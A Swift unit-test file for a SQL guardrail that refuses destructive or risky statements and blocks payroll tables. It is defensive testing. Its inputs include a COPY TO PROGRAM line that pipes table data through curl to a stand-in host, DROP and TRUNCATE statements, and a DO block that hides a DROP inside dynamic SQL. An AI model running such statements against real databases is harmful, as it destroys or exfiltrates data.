@testable import BordergateInspection
import XCTest

/// Guardrail decisions and normalisation on SQL that fools regular expressions.
final class SQLAnalysisTests: XCTestCase {
    let rails = SQLGuardrails(deny: [.kind(.drop), .kind(.truncate), .kind(.deleteWithoutWhere), .kind(.updateWithoutWhere),
                                     .kind(.copyToProgram), .kind(.grant), .table("payroll.*")],
                              review: [.kind(.alter)])

    func refusal(_ sql: String) -> String? {
        SQLAnalysis.analyse(sql, guardrails: rails).refusal(undecidable: true)?.rule
    }

    func testKindsAndShapes() {
        XCTAssertEqual(refusal("DROP TABLE customers"), "drop")
        XCTAssertEqual(refusal("/* harmless */ drop   table \"Customers\" -- x"), "drop")
        XCTAssertEqual(refusal("truncate t"), "truncate")
        XCTAssertEqual(refusal("WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone"), "delete-without-where")
        XCTAssertNil(refusal("DELETE FROM t WHERE id = 1"))
        XCTAssertEqual(refusal("UPDATE t SET a = 1"), "update-without-where")
        XCTAssertNil(refusal("UPDATE t SET a = 1 WHERE id = 2"))
        XCTAssertEqual(refusal("COPY t TO PROGRAM 'curl -d @- http://x'"), "copy-to-program")
        XCTAssertNil(refusal("COPY t TO STDOUT"))
        XCTAssertEqual(refusal("REVOKE ALL ON t FROM bob"), "grant")
        XCTAssertEqual(refusal("ALTER TABLE t ADD COLUMN c int"), "review:alter")
    }

    func testStringsAndCommentsAreNotStatements() {
        XCTAssertNil(refusal("SELECT 'DROP TABLE t; TRUNCATE t'"))
        XCTAssertNil(refusal("SELECT $$DROP TABLE t$$ AS x -- DROP TABLE t"))
        XCTAssertNil(refusal("SELECT 1 /* ; DELETE FROM t */"))
    }

    func testMultiStatementStringsAreCheckedOneByOne() {
        XCTAssertEqual(refusal("SELECT 1; SELECT 2; DROP TABLE t"), "drop")
        let a = SQLAnalysis.analyse("select 1; select * from t where email = 'a@b.example'", guardrails: nil)
        XCTAssertEqual(a.statements.map(\.normalized), ["select $1", "select * from t where email = $1"])
    }

    func testTables() {
        XCTAssertEqual(refusal("SELECT * FROM payroll.salaries"), "table payroll.*")
        XCTAssertEqual(refusal("DROP TABLE payroll.x"), "drop")
        XCTAssertNil(refusal("SELECT * FROM public.salaries"))
        XCTAssertEqual(refusal("SET search_path = payroll, public"), "table payroll.*")
        let star = SQLGuardrails(deny: [.table("*.secrets")])
        XCTAssertEqual(SQLAnalysis.analyse("select * from secrets", guardrails: star).refusal(undecidable: true)?.rule, "table *.secrets")
    }

    func testWhatCannotBeDecided() {
        XCTAssertEqual(refusal("DO $$BEGIN EXECUTE 'DROP TABLE t'; END$$"), "on-error")
        XCTAssertEqual(refusal("selec 1"), "on-error")
        let pass = SQLGuardrails(deny: [.kind(.drop)], blockUndecidable: false)
        XCTAssertNil(SQLAnalysis.analyse("selec 1", guardrails: pass).refusal(undecidable: false))
        XCTAssertEqual(SQLAnalysis.analyse("selec 1 'secret@example.com'", guardrails: nil).parseError != nil, true)
        XCTAssertFalse(SQLAnalysis.unparsed("select 'secret@example.com'").contains("secret"))
    }

    func testTransactionStatements() {
        XCTAssertEqual(SQLAnalysis.analyse("COMMIT", guardrails: nil).statements.first?.transaction, "TRANS_STMT_COMMIT")
    }
}
